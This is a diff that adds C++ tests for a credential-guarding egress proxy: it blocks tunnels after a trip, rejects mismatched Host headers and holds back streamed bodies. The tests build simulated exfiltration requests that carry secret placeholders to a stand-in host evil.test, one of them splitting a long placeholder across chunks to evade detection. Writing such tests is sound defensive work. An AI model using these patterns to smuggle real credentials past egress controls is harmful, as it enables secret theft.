@@ -5,6 +5,8 @@
 #include <gtest/gtest.h>
 
 #include <atomic>
+#include <functional>
+#include <mutex>
 #include <thread>
 
 #include <boost/asio.hpp>
@@ -338,6 +340,139 @@ TEST_F(ProxyTest, OpaqueTunnelsOnlyToAllowedHostsAndPorts) {
   int tunnels = 0;
   for (const auto& r : recs) tunnels += r.method == "CONNECT" && r.status == 200 && r.port == 22;
   EXPECT_EQ(tunnels, 1);
+}
+
+// Issue 15 item 12: from the moment of a trip, no new CONNECT, opaque tunnel or TLS interception
+// opens (before the fix they opened until the supervisor's pause landed).
+TEST_F(ProxyTest, AfterATripNoNewTunnelOpens) {
+  auto up = FakeUpstream::Start(nullptr, Hello());
+  ASSERT_TRUE(up.ok());
+  upstream_ = std::move(up).value();
+  EchoServer echo;
+  env_.tunnel_ports = {22};
+  env_.tunnel_hosts = {"example.test"};
+  env_.StartProxy({{"git.example.test:22", echo.Address()},
+                   {"evil.test:80", upstream_->Address()},
+                   {"api.anthropic.com:443", upstream_->Address()}});
+  Reply trip = Exchange(env_.proxy_port, {"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n"
+                                          "X-Token: " + env_.Placeholder(1) + "\r\n\r\n"});
+  ASSERT_EQ(trip.status, 451);
+  ASSERT_TRUE(env_.proxy->compromised());
+  std::string tunnel = RawRoundTrip(env_.proxy_port, "CONNECT git.example.test:22 HTTP/1.1\r\n"
+                                                     "Host: git.example.test:22\r\n\r\nSSH-2.0-test\r\n");
+  EXPECT_EQ(tunnel.substr(0, 12), "HTTP/1.1 451") << tunnel;
+  EXPECT_EQ(tunnel.find("echo:"), std::string::npos) << tunnel;
+  EXPECT_EQ(echo.connections(), 0);
+  std::string tls = RawRoundTrip(env_.proxy_port, "CONNECT api.anthropic.com:443 HTTP/1.1\r\n"
+                                                  "Host: api.anthropic.com:443\r\n\r\n");
+  EXPECT_EQ(tls.substr(0, 12), "HTTP/1.1 451") << tls;
+  EXPECT_TRUE(upstream_->requests().empty());
+}
+
+// Issue 15 item 7, plain HTTP: an absolute-form request whose Host names another host is 421 (a
+// shared front would route it by Host, past the egress policy's judgement of the target).
+TEST_F(ProxyTest, AbsoluteFormWithAnotherHostIs421) {
+  Start();
+  Reply r = Exchange(env_.proxy_port, {"GET http://api.github.com/x HTTP/1.1\r\nHost: evil.test\r\n\r\n"});
+  EXPECT_EQ(r.status, 421);
+  EXPECT_NE(r.body.find("does not match the request target's host api.github.com"),
+            std::string::npos) << r.body;
+  EXPECT_TRUE(upstream_->requests().empty());
+  EXPECT_FALSE(env_.proxy->compromised());
+}
+
+// A loopback TCP server that records every byte it reads, as it reads them.
+class RecordingServer {
+ public:
+  RecordingServer() {
+    acceptor_.open(asio::ip::tcp::v4());
+    acceptor_.bind({asio::ip::make_address("127.0.0.1"), 0});
+    acceptor_.listen();
+    thread_ = std::thread([this] {
+      boost::system::error_code ec;
+      asio::ip::tcp::socket c(io_);
+      acceptor_.accept(c, ec);
+      if (ec) return;
+      accepted_ = true;
+      char buf[4096];
+      for (;;) {
+        size_t n = c.read_some(asio::buffer(buf), ec);
+        std::lock_guard<std::mutex> l(mu_);
+        if (ec) break;
+        got_.append(buf, n);
+      }
+      std::lock_guard<std::mutex> l(mu_);
+      closed_ = true;
+    });
+  }
+  ~RecordingServer() {
+    ::shutdown(acceptor_.native_handle(), SHUT_RDWR);
+    boost::system::error_code ec;
+    acceptor_.close(ec);
+    thread_.join();
+  }
+  std::string Address() const { return "127.0.0.1:" + std::to_string(acceptor_.local_endpoint().port()); }
+  // Waits (bounded) until `pred(bytes so far, closed)` holds; returns the bytes.
+  std::string WaitFor(const std::function<bool(const std::string&, bool)>& pred) {
+    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
+    for (;;) {
+      {
+        std::lock_guard<std::mutex> l(mu_);
+        if (pred(got_, closed_) || std::chrono::steady_clock::now() > deadline) return got_;
+      }
+      std::this_thread::sleep_for(std::chrono::milliseconds(5));
+    }
+  }
+
+ private:
+  asio::io_context io_;
+  asio::ip::tcp::acceptor acceptor_{io_};
+  std::thread thread_;
+  std::mutex mu_;
+  std::string got_;
+  bool closed_ = false;
+  std::atomic<bool> accepted_{false};
+
+ public:
+  bool accepted() const { return accepted_; }
+};
+
+// Issue 15 item 11: a streamed body keeps back at least the longest placeholder (in any encoding
+// the detector knows), so when a long placeholder arrives split across pieces, none of its bytes
+// reached the upstream before the detector saw the rest (the old hold-back was 256 bytes).
+TEST_F(ProxyTest, StreamedBodyHoldsBackTheLongestPlaceholder) {
+  RecordingServer recorder;
+  std::string value;
+  for (int i = 0; value.size() < 3000; ++i) value += "Tok" + std::to_string(i * 7919 % 10007);
+  env_.creds.push_back(Bind(vault::CredentialKind::kHeader, value, {"api.example.test"}, "X-Key"));
+  env_.StartProxy({{"evil.test:80", recorder.Address()}}, vault::LlmBodyPolicy::kFlag, /*hold=*/16);
+  const std::string ph = env_.creds.back().placeholder;
+  ASSERT_GE(ph.size(), 3000u);
+  auto chunk = [](const std::string& d) {
+    char len[16];
+    snprintf(len, sizeof len, "%zx\r\n", d.size());
+    return std::string(len) + d + "\r\n";
+  };
+  asio::io_context io;
+  asio::ip::tcp::socket s(io);
+  boost::system::error_code ec;
+  s.connect({asio::ip::make_address("127.0.0.1"), env_.proxy_port}, ec);
+  ASSERT_FALSE(ec);
+  asio::write(s, asio::buffer("POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\n"
+                              "Transfer-Encoding: chunked\r\n\r\n" +
+                              chunk(std::string(40, 'a') + ph.substr(0, 2000))), ec);
+  // The proxy streams (the body is past the 16-byte hold): once it connected upstream it has read
+  // the first piece, so the second is read apart from it.
+  recorder.WaitFor([&](const std::string&, bool) { return recorder.accepted(); });
+  ASSERT_TRUE(recorder.accepted());
+  asio::write(s, asio::buffer(chunk(ph.substr(2000)) + "0\r\n\r\n"), ec);
+  boost::beast::flat_buffer buf;
+  http::response<http::string_body> res;
+  http::read(s, buf, res, ec);
+  EXPECT_EQ(res.result_int(), 451u);
+  std::string upstream = recorder.WaitFor([](const std::string&, bool closed) { return closed; });
+  EXPECT_EQ(upstream.find(ph.substr(0, 16)), std::string::npos)
+      << "the start of the placeholder reached the upstream: " << upstream.size() << " bytes";
 }
 
 TEST(SubstituteTest, HeaderForms) {
